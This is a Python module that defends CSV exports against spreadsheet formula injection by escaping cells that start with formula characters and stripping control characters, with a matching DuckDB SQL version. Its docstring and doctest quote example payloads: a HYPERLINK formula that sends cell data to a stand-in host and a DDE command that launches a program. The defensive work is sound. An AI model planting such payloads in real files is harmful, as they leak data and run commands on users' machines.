"""Cells of CSV files that people open in a spreadsheet: outbox lists, the quarantine.

Customer data is written by the public. A name such as `=HYPERLINK("http://evil/?d="&B2,
"Click me")` or `=cmd|' /C calc'!A0` is a formula to a spreadsheet, so a cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe (the OWASP
rule: the spreadsheet shows the text as written and evaluates nothing). Control characters
other than line breaks and tabs (a NUL in a name) are dropped: no reader expects them.

>>> cell('=HYPERLINK("http://evil.example/?d="&B2,"Click me")')
'\\'=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
>>> cell("+8613800000000"), cell("王芳"), cell("a\\x00b")
("'+8613800000000", '王芳', 'ab')
"""

from __future__ import annotations

import re

from sqlglot import exp

from .db import tree
from .inert import UNSENDABLE, UNSENDABLE_SQL

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(UNSENDABLE)
# The same rule in SQL (DuckDB's regular expressions), for files written by COPY.
FORMULA_START_REGEX = r"^[=+\-@\t\r]"
_CONTROL_REGEX = UNSENDABLE_SQL


def cell(value: object) -> str:
    text = _CONTROL.sub("", str(value))
    return "'" + text if text.startswith(FORMULA_START) else text


def cell_sql(text: exp.Expr) -> exp.Expr:
    """cell() as a DuckDB expression over a text expression."""
    clean = tree("regexp_replace(:text, :control, '', 'g')", text=text, control=_CONTROL_REGEX)
    return tree("CASE WHEN regexp_matches(:clean, :formula) THEN chr(39) || :clean ELSE :clean END", clean=clean, formula=FORMULA_START_REGEX)
